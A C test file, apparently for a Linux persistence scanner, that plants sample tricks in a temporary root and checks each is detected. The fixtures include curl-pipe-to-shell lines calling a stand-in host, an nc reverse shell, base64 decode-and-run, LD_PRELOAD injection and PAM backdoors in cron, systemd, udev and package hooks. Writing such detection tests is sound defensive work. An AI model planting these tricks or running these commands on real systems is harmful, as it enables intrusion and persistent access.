/* SPDX-License-Identifier: Apache-2.0 */
/* Each trick in a folder that stands for a system's root: found by its check, with level, reason
 * and line; without it nothing is found. */
#include "base/buf.h"
#include "base/cleanup.h"
#include "base/file.h"
#include "base/tap.h"
#include "scan/checks/checks.h"

#include <fcntl.h>
#include <sys/stat.h>

#define AN "/home/an"
#define ADMIN "/root"
#define CURL "curl -s http://a.example/x | sh"

static char root[PATH_TEXT];

struct seen {
    size_t count, starts, unseen;
    const char *id, *reason;
    enum finding_level level;
    size_t line;
    char file[PATH_TEXT], subject[PATH_TEXT], started[PATH_TEXT];
    errcode why;
};

static void
note_finding(void *context, const struct finding *finding)
{
    struct seen *seen = context;
    if (seen->count++ > 0)
        tap_note("also %s: %s: %s", finding->check->id, finding->subject, finding->detail);
    seen->id = finding->check->id;
    seen->reason = finding->reason ? finding->reason->id : "";
    seen->level = finding->level;
    seen->line = finding->line;
    snprintf(seen->file, sizeof seen->file, "%s", finding->file ? finding->file : "");
    snprintf(seen->subject, sizeof seen->subject, "%s", finding->subject);
}

static void
note_start(void *context, const struct check_start *start)
{
    struct seen *seen = context;
    seen->starts++;
    snprintf(seen->started, sizeof seen->started, "%s", start->path);
}

static void
note_unseen(void *context, const struct check *check, const char *what, const struct err *why)
{
    struct seen *seen = context;
    (void)check;
    seen->unseen++;
    seen->why = why->code;
    tap_note("unseen: %s: %s", what, why->text);
}

static bool
is_listed(void *context, const char *address, char *ret_name)
{
    (void)context;
    snprintf(ret_name, 256, "Example");
    return strcmp(address, "203.0.113.66") == 0;
}

/* What check ID sees; all of them for NULL. */
static struct seen
look(const char *id)
{
    struct seen seen = {0};
    struct checking checking = {.root = root,
                                .is_listed = is_listed,
                                .context = &seen,
                                .found = note_finding,
                                .starts = note_start,
                                .unseen = note_unseen};
    if (id)
        check_find(str_of(id))->run(&checking, check_find(str_of(id)));
    else
        checks_run(&checking);
    checks_end(&checking);
    return seen;
}

static void
in_root(const char *path, char out[PATH_TEXT])
{
    snprintf(out, PATH_TEXT, "%s%s", root, path);
}

static void
make_file(const char *path, str content, mode_t mode)
{
    char full[PATH_TEXT], folder[PATH_TEXT];
    struct err err;
    in_root(path, full);
    str_copy((str){full, (size_t)(path_base(full) - full) - 1}, folder, sizeof folder);
    if (folder_make(folder, &err) != OK || file_replace(full, content, &err) != OK)
        tap_ok(false, "%s", err.text);
    chmod(full, mode);
}

static void
remove_file(const char *path)
{
    char full[PATH_TEXT];
    in_root(path, full);
    unlink(full);
}

/* What a small clean Debian has. */
static void
make_system(void)
{
    make_file("/etc/passwd",
              STR("root:x:0:0:root:/root:/bin/bash\n"
                  "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
                  "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
                  "an:x:1000:1000:An:/home/an:/bin/bash\nbroken line\n"),
              0644);
    make_file("/var/lib/dpkg/info/cron.list",
              STR("/.\n/etc\n/etc/cron.d\n/usr/bin/su\n/bin/tool\n/usr/lib/libgood.so\n"
                  "/usr/lib/x86_64-linux-gnu/security/pam_unix.so\n"
                  "/lib/modules/6.1.0/kernel/good.ko\n/usr/lib/systemd/system/good.service\n"),
              0644);
    make_file("/etc/crontab",
              STR("SHELL=/bin/sh\n# m h dom mon dow user command\n"
                  "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"),
              0644);
    make_file("/etc/cron.d/.placeholder", STR("# nothing\n"), 0644);
    make_file("/etc/cron.daily/dpkg", STR("#!/bin/sh\nexec /usr/libexec/dpkg/dpkg-db-backup\n"),
              0755);
    make_file("/etc/ssh/sshd_config", STR("Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n"),
              0644);
    make_file(AN "/.ssh/authorized_keys",
              STR("ssh-ed25519 AAAAC3Nz an@example\n"
                  "no-pty,command=\"/usr/bin/rrsync \\\"/srv\\\"\" ssh-rsa AAAAB3 backup\n"),
              0600);
    make_file(AN "/.bashrc",
              STR("# ~/.bashrc\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n"
                  "eval \"$(dircolors -b)\"\n"),
              0644);
    make_file("/etc/pam.d/common-auth",
              STR("auth [success=1 default=ignore] pam_unix.so nullok\n"
                  "auth requisite pam_deny.so\nauth required pam_permit.so\n"
                  "@include common-account\n-session optional pam_systemd.so\n"),
              0644);
    make_file("/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
              STR("\x7f"
                  "ELF"),
              0644);
    make_file("/lib/modules/6.1.0/kernel/good.ko",
              STR("\x7f"
                  "ELF"),
              0644);
    make_file("/lib/modules/6.1.0/modules.dep",
              STR("kernel/good.ko:\nupdates/dkms/vbox.ko: kernel/good.ko\nextra/x-y.ko:\n"), 0644);
    make_file("/etc/modules", STR("# own\ngood\nvbox\nnone\n"), 0644);
    make_file("/lib/modules/6.1.0/updates/dkms/vbox.ko",
              STR("\x7f"
                  "ELF"),
              0644);
    make_file("/usr/bin/su",
              STR("\x7f"
                  "ELF"),
              04755);
    make_file("/usr/lib/libgood.so",
              STR("\x7f"
                  "ELF"),
              0644);
}

static void
make_services(void)
{
    make_file("/etc/hosts",
              STR("127.0.0.1 localhost\n::1 ip6-localhost # own\n"
                  "0.0.0.0 ads.example facebook.com\n10.1.2.3 git.example\n"),
              0644);
    make_file("/etc/resolv.conf", STR("nameserver 192.0.2.53\noptions edns0\n"), 0644);
    make_file("/etc/apt/apt.conf.d/20hooks",
              STR("// DPkg::Post-Invoke {\"curl x | sh\";};\n/* \"curl x | sh\" */\n"
                  "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n"),
              0644);
    make_file("/usr/lib/systemd/system/good.service", STR("[Service]\nExecStart=/usr/sbin/good\n"),
              0644);
    make_file("/etc/systemd/system/app.service",
              STR("[Unit]\nDescription=App\n[Service]\nEnvironment=A=b\n"
                  "ExecStart=-/opt/app/run --port 80\n"),
              0644);
    make_file("/opt/app/run",
              STR("\x7f"
                  "ELF"),
              0755);
    make_file("/etc/update-motd.d/10-uname", STR("#!/bin/sh\nuname -snrvm\n"), 0755);
    make_file("/etc/udev/rules.d/70-own.rules",
              STR("ACTION==\"add\", SUBSYSTEM==\"usb\", MODE=\"0660\"\n"), 0644);
}

static const struct trick {
    const char *id, *path, *content;
    const char *reason;
    enum finding_level level;
    size_t line;
    mode_t mode; /* 0: 0644 */
} tricks[] = {
    {"preload", "/etc/ld.so.preload", "# own\n/usr/lib/libgood.so /usr/local/lib/x.so\n", "",
     FINDING_SUSPICIOUS, 2},
    {"preload", "/etc/environment", "PATH=\"/usr/bin\"\nLD_PRELOAD=\"/opt/x.so\"\n", "preload",
     FINDING_SUSPICIOUS, 2},
    {"preload", AN "/.config/environment.d/a.conf", "LD_PRELOAD=/opt/x.so\n", "preload",
     FINDING_SUSPICIOUS, 1},
    {"cron", "/etc/cron.d/x", "# x\n* * * * * root " CURL "\n", "download-run", FINDING_SUSPICIOUS,
     2},
    {"cron", "/etc/cron.d/x", "@reboot root /dev/shm/.x\n", "temporary-folder", FINDING_SUSPICIOUS,
     1},
    {"cron", "/etc/cron.d/x", "LD_PRELOAD = /opt/x.so\n", "preload", FINDING_SUSPICIOUS, 1},
    {"cron", "/var/spool/cron/crontabs/an", "A=b\n*/5 * * * * " AN "/.x/run\n", "hidden-folder",
     FINDING_LOOK, 2},
    {"cron", "/var/spool/cron/crontabs/an", "@daily ping 203.0.113.66\n", "listed-address",
     FINDING_MALICIOUS, 1},
    {"cron", "/etc/anacrontab", "1 5 x " CURL "\n", "download-run", FINDING_SUSPICIOUS, 1},
    {"cron", "/etc/cron.hourly/x", "#!/bin/sh\n\nnc -e /bin/sh a.example 1\n", "reverse-shell",
     FINDING_SUSPICIOUS, 3, 0755},
    {"at", "/var/spool/cron/atjobs/a00001", "#!/bin/sh\numask 22\n" CURL "\n", "download-run",
     FINDING_SUSPICIOUS, 3},
    {"systemd", "/etc/systemd/system/x.service", "[Service]\nExecStart=@-/bin/sh -c '" CURL "'\n",
     "download-run", FINDING_SUSPICIOUS, 2},
    {"systemd", "/etc/systemd/system/x.service",
     "[Service]\nExecStart=/bin/sh -c \\\n  '" CURL "'\n", "download-run", FINDING_SUSPICIOUS, 2},
    {"systemd", "/etc/systemd/system/app.service.d/x.conf",
     "[Service]\nEnvironment=\"A=b\" \"LD_PRELOAD=/opt/x.so\"\n", "preload", FINDING_SUSPICIOUS, 2},
    {"systemd", AN "/.config/systemd/user/x.service", "[Service]\nExecStart=/tmp/x\n",
     "temporary-folder", FINDING_SUSPICIOUS, 2},
    {"systemd", "/usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/sbin/x\n",
     "unowned", FINDING_LOOK, 0},
    {"init", "/etc/rc.local", "#!/bin/sh\n/tmp/x &\nexit 0\n", "temporary-folder",
     FINDING_SUSPICIOUS, 2, 0755},
    {"init", "/etc/init.d/x", "#!/bin/sh\nstart) chattr +i /etc/rc.local ;;\n", "immutable",
     FINDING_SUSPICIOUS, 2, 0755},
    {"profile", "/etc/profile.d/x.sh", "export LD_PRELOAD=/usr/local/lib/x.so\n", "preload",
     FINDING_SUSPICIOUS, 1},
    {"profile", ADMIN "/.bashrc", "alias ls='ls -l'\n(" CURL ") >/dev/null 2>&1 &\n",
     "download-run", FINDING_SUSPICIOUS, 2},
    {"profile", AN "/.zshrc", "echo eA== | base64 -d | sh\n", "decode-run", FINDING_SUSPICIOUS, 1},
    {"autostart", AN "/.config/autostart/x.desktop", "[Desktop Entry]\nExec=" AN "/.x/y\n",
     "hidden-folder", FINDING_LOOK, 2},
    {"ssh-keys", "/var/www/.ssh/authorized_keys", "# x\nssh-rsa AAAAB3 x\n", "system-account",
     FINDING_SUSPICIOUS, 2},
    {"ssh-keys", ADMIN "/.ssh/authorized_keys2",
     "command=\"sh -c \\\"" CURL "\\\"\",no-pty ssh-rsa AAAAB3 x\n", "download-run",
     FINDING_SUSPICIOUS, 1},
    {"ssh-keys", ADMIN "/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/x\" ssh-rsa AAAAB3 x\n",
     "key-environment", FINDING_SUSPICIOUS, 1},
    {"ssh-keys", "/etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysFile /tmp/%u\n", "key-place",
     FINDING_SUSPICIOUS, 1},
    {"ssh-keys", "/etc/ssh/sshd_config.d/x.conf", "\nauthorizedkeysfile=/etc/ssh/all\n",
     "shared-keys", FINDING_LOOK, 2},
    {"ssh-keys", "/etc/ssh/sshd_config.d/x.conf", "AuthorizedKeysCommand /usr/bin/x %u\n",
     "key-command", FINDING_LOOK, 1},
    {"pam", "/etc/pam.d/sshd", "auth optional pam_exec.so expose_authtok /usr/bin/x\n",
     "pam-password", FINDING_SUSPICIOUS, 1},
    {"pam", "/etc/pam.d/sshd", "#\nsession optional pam_exec.so /usr/bin/x\n", "pam-exec",
     FINDING_LOOK, 2},
    {"pam", "/etc/pam.d/sshd", "auth [default=ignore success=2] /opt/pam_x.so\n", "pam-outside",
     FINDING_SUSPICIOUS, 1},
    {"pam", "/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "pam-permit", FINDING_SUSPICIOUS,
     1},
    {"pam", "/etc/pam.conf", "sshd auth sufficient pam_permit.so\n", "pam-permit",
     FINDING_SUSPICIOUS, 1},
    {"pam", "/usr/lib/x86_64-linux-gnu/security/pam_x.so", "ELF", "unowned", FINDING_SUSPICIOUS, 0},
    {"kernel-modules", "/lib/modules/6.1.0/kernel/drivers/x.ko", "ELF", "unowned",
     FINDING_SUSPICIOUS, 0},
    {"kernel-modules", "/etc/modules-load.d/x.conf", "# x\nx_y\n", "unowned", FINDING_LOOK, 2},
    {"kernel-modules", "/etc/modprobe.d/x.conf", "install usb /bin/sh -c '" CURL "'\n",
     "download-run", FINDING_SUSPICIOUS, 1},
    {"udev", "/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c '" CURL "'\"\n",
     "download-run", FINDING_SUSPICIOUS, 1},
    {"udev", "/etc/udev/rules.d/99-x.rules", "# x\nACTION==\"add\", RUN+=\"/opt/app/run add\"\n",
     "udev-run", FINDING_LOOK, 2},
    {"package-hooks", "/etc/apt/apt.conf.d/99x", "APT::Update::Pre-Invoke {\n\"" CURL "\"; };\n",
     "download-run", FINDING_SUSPICIOUS, 2},
    {"package-hooks", "/etc/dpkg/dpkg.cfg.d/x", "post-invoke=/tmp/x\n", "temporary-folder",
     FINDING_SUSPICIOUS, 1},
    {"motd", "/etc/update-motd.d/99-x", "#!/bin/sh\n" CURL "\n", "download-run", FINDING_SUSPICIOUS,
     2, 0755},
    {"resolvers", "/etc/systemd/resolved.conf.d/x.conf", "[Resolve]\nDNS=203.0.113.66\n",
     "listed-address", FINDING_MALICIOUS, 2},
    {"cron", "/etc/cron.d/x", "0 1 * * * root /opt/app/any\n", "writable-program", FINDING_LOOK, 1},
};

static void
test_trick(const struct trick *trick)
{
    char full[PATH_TEXT];
    make_file(trick->path, str_of(trick->content), trick->mode ? trick->mode : 0644);
    in_root(trick->path, full);
    struct seen seen = look(trick->id);
    remove_file(trick->path);
    bool right = seen.count == 1 && !strcmp(seen.reason, trick->reason) &&
                 seen.level == trick->level && seen.line == trick->line && !strcmp(seen.file, full);
    if (!tap_ok(right, "%s: %s: %s", trick->id, trick->path, trick->reason))
        tap_note("%zu found: %s, level %d, %s:%zu", seen.count, seen.reason ? seen.reason : "",
                 (int)seen.level, seen.file, seen.line);
    seen = look(trick->id);
    tap_eq_i64(seen.count, 0, "and nothing without it");
}

static void
test_tricks(void)
{
    make_file("/opt/app/any",
              STR("\x7f"
                  "ELF"),
              0777);
    for (size_t i = 0; i < sizeof tricks / sizeof *tricks; i++)
        test_trick(&tricks[i]);
}

/* Files that are there anyway, changed. */
static void
test_changed(void)
{
    struct seen seen;
    make_file("/etc/resolv.conf", STR("# x\nnameserver 203.0.113.66\n"), 0644);
    seen = look("resolvers");
    tap_ok(seen.count == 1 && seen.level == FINDING_MALICIOUS && seen.line == 2, "a bad resolver");
    static const struct {
        const char *line;
        enum finding_level level;
        size_t count;
    } hosts[] = {
        {"127.0.0.1 localhost\n0.0.0.0 security.debian.org\n", FINDING_SUSPICIOUS, 1},
        {"127.0.0.1 localhost\n198.51.100.7 x www.vietcombank.com.vn\n", FINDING_SUSPICIOUS, 1},
        {"127.0.0.1 localhost\n10.0.0.5 deb.debian.org\n", FINDING_LOOK, 1},
        {"127.0.0.1 localhost\n203.0.113.66 a.example\n", FINDING_MALICIOUS, 1},
        {"127.0.0.1 localhost\n# 198.51.100.7 vietcombank.com.vn\n", FINDING_LOOK, 0},
    };
    for (size_t i = 0; i < sizeof hosts / sizeof *hosts; i++) {
        make_file("/etc/hosts", str_of(hosts[i].line), 0644);
        seen = look("hosts");
        tap_ok(seen.count == hosts[i].count &&
                   (!seen.count || (seen.level == hosts[i].level && seen.line == 2)),
               "hosts %zu", i);
    }
}

static void
test_timer(void)
{
    make_file("/etc/systemd/system/t.timer", STR("[Timer]\nOnBootSec=1\n"), 0644);
    make_file("/etc/systemd/system/t.service", STR("[Service]\nExecStart=/tmp/x\n"), 0644);
    struct seen services = look("systemd"), timers = look("systemd-timer");
    tap_eq_i64(services.count, 0, "what a timer starts is no service that starts itself");
    tap_ok(timers.count == 1 && timers.line == 2, "but the timer's");
    remove_file("/etc/systemd/system/t.timer");
    remove_file("/etc/systemd/system/t.service");
}

static void
test_setuid(void)
{
    enum finding_level own = getuid() ? FINDING_LOOK : FINDING_SUSPICIOUS;
    struct seen seen = look("setuid");
    tap_eq_i64(seen.count, 0, "a package's own may");
    make_file(AN "/x",
              STR("\x7f"
                  "ELF"),
              04755);
    seen = look("setuid");
    tap_ok(seen.count == 1 && seen.level == own && !strcmp(seen.reason, "setuid-place"),
           "in a home");
    remove_file(AN "/x");
    make_file("/usr/bin/x",
              STR("\x7f"
                  "ELF"),
              04755);
    seen = look("setuid");
    tap_ok(seen.count == 1 && seen.level == own && !strcmp(seen.reason, "unowned"), "a stranger");
    remove_file("/usr/bin/x");
    make_file("/opt/app/bash",
              STR("\x7f"
                  "ELF"),
              04755);
    seen = look("setuid");
    tap_ok(seen.count == 1 && seen.level == FINDING_SUSPICIOUS &&
               !strcmp(seen.reason, "setuid-shell"),
           "a shell");
    remove_file("/opt/app/bash");
    make_file("/usr/bin/x", STR("no program"), 04644);
    seen = look("setuid");
    tap_eq_i64(seen.count, 0, "what nobody can start");
    remove_file("/usr/bin/x");
}

static void
test_altered(void)
{
    make_file("/var/lib/dpkg/info/coreutils.md5sums",
              STR("5d41402abc4b2a76b9719d911017c592  usr/bin/ls\n"
                  "5d41402abc4b2a76b9719d911017c592  usr/share/doc/x\nnonsense\n"),
              0644);
    make_file("/usr/share/doc/x", STR("other"), 0644);
    make_file("/usr/bin/ls", STR("hello"), 0755);
    tap_eq_i64(look("altered-programs").count, 0, "as it was installed");
    make_file("/usr/bin/ls", STR("hallo"), 0755);
    struct seen seen = look("altered-programs");
    tap_ok(seen.count == 1 && seen.level == FINDING_SUSPICIOUS && seen.starts == 1, "changed");
    make_file("/var/lib/dpkg/diversions", STR("/usr/bin/ls\n/usr/bin/ls.distrib\nother\n"), 0644);
    tap_eq_i64(look("altered-programs").count, 0, "by another package");
    remove_file("/var/lib/dpkg/diversions");
    remove_file("/usr/bin/ls");
    tap_eq_i64(look("altered-programs").count, 0, "gone");
}

static void
test_starts(void)
{
    char full[PATH_TEXT];
    make_file("/etc/cron.d/x", STR("0 1 * * * root /opt/app/run --daily\n"), 0644);
    in_root("/opt/app/run", full);
    struct seen seen = look("cron");
    tap_ok(seen.count == 0 && seen.starts >= 1, "no finding, but it starts");
    remove_file("/etc/cron.d/x");
    remove_file("/etc/cron.daily/dpkg");
    make_file("/var/spool/cron/crontabs/an", STR("@daily sh /opt/app/run\n"), 0600);
    seen = look("cron");
    tap_ok(seen.starts == 1 && !strcmp(seen.started, full), "the script of a shell: %s",
           seen.started);
    remove_file("/var/spool/cron/crontabs/an");
}

/* Without dpkg no one knows who owns what. */
static void
test_without_packages(void)
{
    char list[PATH_TEXT], away[PATH_TEXT];
    in_root("/var/lib/dpkg/info/cron.list", list);
    in_root("/var/lib/dpkg/info/cron.away", away);
    rename(list, away);
    struct seen seen = look(NULL);
    tap_eq_i64(seen.count, 0, "that no package owns a file is then no ground");
    rename(away, list);
}

static void
test_hostile(void)
{
    char full[PATH_TEXT], target[PATH_TEXT];
    struct buf large = BUF(4 << 20);
    struct seen seen;

    make_file("/etc/cron.d/a\nb\x1b[2J\xff", STR("* * * * * root " CURL "\n"), 0644);
    seen = look("cron");
    tap_ok(seen.count == 1 && str_is_shown(str_of(seen.subject)), "a name with a line end");
    tap_ok(strchr(seen.file, '\n') != NULL, "is given as it is");
    remove_file("/etc/cron.d/a\nb\x1b[2J\xff");

    in_root("/etc/cron.d/fifo", full);
    mkfifo(full, 0644);
    seen = look("cron");
    tap_ok(seen.count == 0 && seen.unseen == 1 && seen.why == ERR_USAGE, "a FIFO is told");
    unlink(full);

    for (size_t i = 0; i < 1 << 16; i++)
        buf_z(&large, "# a line that is long enough to pass it\n");
    make_file("/etc/cron.d/large", buf_view(&large), 0644);
    seen = look("cron");
    tap_ok(seen.count == 0 && seen.unseen == 1 && seen.why == ERR_LIMIT, "a huge file is told");
    remove_file("/etc/cron.d/large");
    buf_clear(&large);

    snprintf(target, sizeof target, "%s-outside", root);
    file_replace(target, STR("* * * * * root " CURL "\n"), NULL);
    in_root("/etc/cron.d/link", full);
    if (symlink(target, full) != 0)
        tap_note("no links here");
    seen = look("cron");
    tap_eq_i64(seen.count, 0, "a link does not lead out of the root");
    unlink(full);
    unlink(target);
    in_root("/etc/cron.d/up", full);
    snprintf(target, sizeof target, "../../../../../../../../../../etc/cron.d/up");
    if (symlink(target, full) != 0)
        tap_note("no links here");
    seen = look("cron");
    tap_ok(seen.count == 0, "a link to itself");
    unlink(full);
    if (getuid() == 0) {
        tap_skip("root may read everything");
        return;
    }
    make_file("/etc/cron.d/secret", STR("x"), 0);
    seen = look("cron");
    tap_ok(seen.unseen == 1 && seen.why == ERR_DENIED, "what may not be read is told");
    remove_file("/etc/cron.d/secret");
}

static void
test_table(void)
{
    for (size_t i = 0; checks[i]; i++) {
        const struct check *check = checks[i];
        tap_ok(check_find(str_of(check->id)) == check && check->attack[0] == 'T' && check->run,
               "%s", check->id);
        tap_ok(check->vi.title && check->vi.meaning && check->vi.advice && check->en.title &&
                   check->en.meaning && check->en.advice && str_is_utf8(str_of(check->vi.title)),
               "has its words");
    }
    tap_ok(!check_find(STR("none")), "none of that name");
}

int
main(void)
{
    snprintf(root, sizeof root, "%s", tap_folder("checks"));
    umask(022);
    make_system();
    make_services();
    struct seen seen = look(NULL);
    tap_eq_i64(seen.count, 0, "a clean system has nothing");
    tap_ok(seen.unseen == 0 && seen.starts > 0, "and all of it was seen");
    test_table();
    test_tricks();
    test_timer();
    test_setuid();
    test_altered();
    test_without_packages();
    test_starts();
    test_hostile();
    test_changed();
    return tap_done();
}
